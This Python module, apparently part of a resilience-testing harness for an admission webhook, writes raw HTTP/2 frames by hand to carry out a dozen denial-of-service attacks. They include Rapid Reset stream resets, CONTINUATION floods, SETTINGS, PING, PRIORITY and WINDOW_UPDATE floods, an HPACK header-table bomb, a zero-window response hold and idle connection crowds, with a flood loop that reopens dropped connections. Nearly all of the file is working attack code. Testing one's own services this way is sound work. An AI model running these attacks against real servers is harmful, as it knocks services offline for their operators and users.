# SPDX-License-Identifier: Apache-2.0
"""Attacks by HTTP/2, written frame by frame, as no client would."""
import itertools
import ssl
import struct

from crowds import MIB, hold, saying
from legit import review

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM = ACK = 1
END_HEADERS = 4
ENABLE_TABLE, INITIAL_WINDOW = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def settings(*pairs):
    return frame(SETTINGS, payload=b"".join(struct.pack(">HI", name, value) for name, value in pairs))


def field(name, value):
    """Literal, never indexed; both are shorter than 127 bytes."""
    return b"\x10" + bytes([len(name)]) + name + bytes([len(value)]) + value


def head(method, length=None):
    fields = field(b":method", method) + field(b":path", b"/validate") + field(b":scheme", b"https") + field(b":authority", b"x")
    if length is not None:
        fields += field(b"content-type", b"application/json") + field(b"content-length", str(length).encode())
    return fields


def ask(stream, method=b"GET", body=None, length=None):
    if body is None:
        return frame(HEADERS, END_HEADERS | END_STREAM, stream, head(method))
    announced = len(body) if length is None else length
    return (frame(HEADERS, END_HEADERS, stream, head(method, announced)) +
            frame(DATA, END_STREAM if announced == len(body) else 0, stream, body))


def open_http2(attacker, *pairs):
    connection = attacker.tls(http2=True)
    connection.sendall(PREFACE + settings(*pairs))
    return connection


def flood(attacker, more, connections=4):
    """Sends what more() gives, on each of some connections, reading what comes; one that is cut is opened anew."""
    open_ones = {}
    while not attacker.over():
        while len(open_ones) < connections and not attacker.over():
            try:
                connection = open_http2(attacker)
                connection.setblocking(False)
                open_ones[connection] = more()
            except OSError:
                pass
        attacker.stand()
        for connection, source in list(open_ones.items()):
            try:
                try:
                    connection.send(next(source))
                    attacker.attempts.value += 100
                except (ssl.SSLWantWriteError, BlockingIOError):
                    pass
                try:
                    while connection.recv(65536):
                        pass
                    raise OSError("cut")
                except (ssl.SSLWantReadError, BlockingIOError):
                    pass
            except (OSError, StopIteration):
                connection.close()
                del open_ones[connection]


def streams(step=2, last=2**31 - 300):
    return range(1, last, step)


def rapid_reset(attacker):
    def more():
        reset = struct.pack(">I", 8)
        for first in streams(200):
            yield b"".join(ask(n) + frame(RST_STREAM, 0, n, reset) for n in range(first, first + 200, 2))
    flood(attacker, more)


def rapid_reset_of_posts(attacker):
    def more():
        reset = struct.pack(">I", 8)
        for first in streams(200):
            yield b"".join(ask(n, b"POST", b"{", 60000) + frame(RST_STREAM, 0, n, reset) for n in range(first, first + 200, 2))
    flood(attacker, more)


def continuations(attacker):
    def more():
        yield frame(HEADERS, 0, 1, head(b"GET"))
        yield from itertools.repeat(b"".join(frame(CONTINUATION, 0, 1, field(b"x", b"y" * 100)) for _ in range(100)))
    flood(attacker, more)


def empty_continuations(attacker):
    def more():
        yield frame(HEADERS, 0, 1, head(b"GET"))
        yield from itertools.repeat(frame(CONTINUATION, 0, 1) * 100)
    flood(attacker, more)


def repeated(payload):
    return lambda attacker: flood(attacker, lambda: itertools.repeat(payload * 100))


settings_flood = repeated(settings((INITIAL_WINDOW, 65535)))
pings = repeated(frame(PING, payload=b"12345678"))
priorities = repeated(frame(PRIORITY, 0, 3, b"\0\0\0\0\x10"))
window_updates = repeated(frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") + frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1"))


def header_bomb(attacker):
    """One long field put into the table once, then named by a byte each."""
    def more():
        big = b"\x40\x01x\x7f" + bytes([0x80 | (3500 - 127) & 0x7F, (3500 - 127) >> 7]) + b"y" * 3500
        yield frame(HEADERS, END_HEADERS | END_STREAM, 1, head(b"GET") + big)
        for n in itertools.count(3, 2):
            yield frame(HEADERS, END_HEADERS | END_STREAM, n, head(b"GET") + b"\xbe" * 8000)
    flood(attacker, more)


def closed_window(attacker):
    """Reviews whose answers stay where they are, as their client opens no window."""
    body = review(spec={"containers": [{"name": f"c{n}", "resources": {"limits": {"nvidia.com/gpu": "1"}}} for n in range(200)]})
    reviews = b"".join(ask(n, b"POST", body) for n in range(1, 200, 2))

    def open_one():
        connection = open_http2(attacker, (INITIAL_WINDOW, 0))
        connection.sendall(reviews)
        connection.setblocking(False)
        return connection
    hold(attacker, 32, open_one)


def only_pings(attacker):
    """A crowd that asks for nothing, and shows that it is there."""
    ping = frame(PING, payload=b"12345678")
    hold(attacker, attacker.scale.places + 32, lambda: saying(attacker, ping, lambda: open_http2(attacker))(), lambda connection: connection.send(ping), 1)


def announced_streams(attacker):
    hold(attacker, 1, saying(attacker, b"".join(ask(n, b"POST", b"{", 4 * MIB - 1) for n in range(1, 250, 2)), lambda: open_http2(attacker)))


HTTP2 = [rapid_reset, rapid_reset_of_posts, continuations, empty_continuations, settings_flood, pings, priorities, window_updates,
         header_bomb, closed_window, only_pings, announced_streams]
for name in ("settings_flood", "pings", "priorities", "window_updates"):
    globals()[name].__name__ = name
